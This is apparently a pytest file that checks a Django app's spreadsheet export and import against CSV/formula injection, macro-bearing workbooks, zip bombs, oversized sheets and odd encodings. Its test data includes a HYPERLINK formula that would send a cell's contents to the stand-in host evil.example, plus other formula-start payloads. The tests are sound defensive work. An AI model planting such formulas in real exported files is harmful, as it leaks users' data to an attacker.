"""Exported tables never carry a live formula (OWASP's CSV injection), and read back the
same."""

import csv
import io
import zipfile

import openpyxl
import pytest

from documents.tables import UnreadableFile, csv_write, table_read, xlsx_write


@pytest.fixture(autouse=True)
def english():
    """The messages are checked in English, whatever an earlier test left active."""
    from django.utils import translation

    with translation.override("en"):
        yield


EVIL = '=HYPERLINK("http://evil.example/?d="&A2,"x")'
STARTS = [EVIL, "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("value", STARTS)
def test_a_csv_cell_that_would_run_as_a_formula_is_text(value):
    content = csv_write(["name"], [[value]])
    _header, (cell,) = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))
    assert cell == "'" + value
    assert table_read("back.csv", content, max_rows=10) == [["name"], [value]]


def test_an_excel_cell_that_would_run_as_a_formula_is_a_string():
    content = xlsx_write(["name", "score"], [[EVIL, -3], ["Rosa", 4]], "Sheet")
    sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
    evil, number = sheet["A2"], sheet["B2"]
    assert evil.data_type == "s" and evil.value == "'" + EVIL
    assert number.value == -3  # numbers stay numbers
    assert table_read("back.xlsx", content, max_rows=10)[1:] == [[EVIL, "-3"], ["Rosa", "4"]]


def test_a_long_sheet_is_refused_while_reading():
    import time

    content = xlsx_write(["name"], ([f"Persona {n}"] for n in range(50_000)), "Sheet")
    started = time.process_time()
    with pytest.raises(UnreadableFile, match="more than 2000 rows"):
        table_read("big.xlsx", content, max_rows=2001)
    # It stopped at the limit instead of reading 50,000 rows (a generous bound, not a timing).
    assert time.process_time() - started < 5


def test_a_workbook_with_macros_or_links_is_refused():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        with zipfile.ZipFile(io.BytesIO(xlsx_write(["name"], [["Rosa"]], "S"))) as plain:
            for part in plain.infolist():
                archive.writestr(part, plain.read(part))
        archive.writestr("xl/vbaProject.bin", b"macros")
    with pytest.raises(UnreadableFile, match="macros"):
        table_read("macro.xlsx", buffer.getvalue(), max_rows=10)


def test_a_workbook_that_unpacks_to_too_much_is_refused(monkeypatch):
    monkeypatch.setattr("documents.tables.MAX_UNPACKED_BYTES", 100)
    with pytest.raises(UnreadableFile, match="unpacked"):
        table_read("bomb.xlsx", xlsx_write(["name"], [["Rosa"]], "S"), max_rows=10)


@pytest.mark.parametrize(
    "content",
    [
        "name;city\r\nRosa;Jaén\r\n".encode("utf-16"),  # Excel's "Unicode text"
        "name;city\r\nRosa;Jaén\r\n".encode("cp1252"),
        b"name,city\rRosa,Ja\xc3\xa9n\r",  # old Mac line ends
        b"name,city\nRosa,Ja\xc3\xa9n\x00\n",  # a stray NUL
    ],
)
def test_csv_in_other_encodings_and_line_ends_reads(content):
    assert table_read("people.csv", content, max_rows=10) == [["name", "city"], ["Rosa", "Jaén"]]


def test_a_broken_csv_is_refused_with_a_reason():
    with pytest.raises(UnreadableFile, match="CSV"):  # a quote never closed
        table_read("bad.csv", b'name\n"' + b"x" * 200_000, max_rows=10)
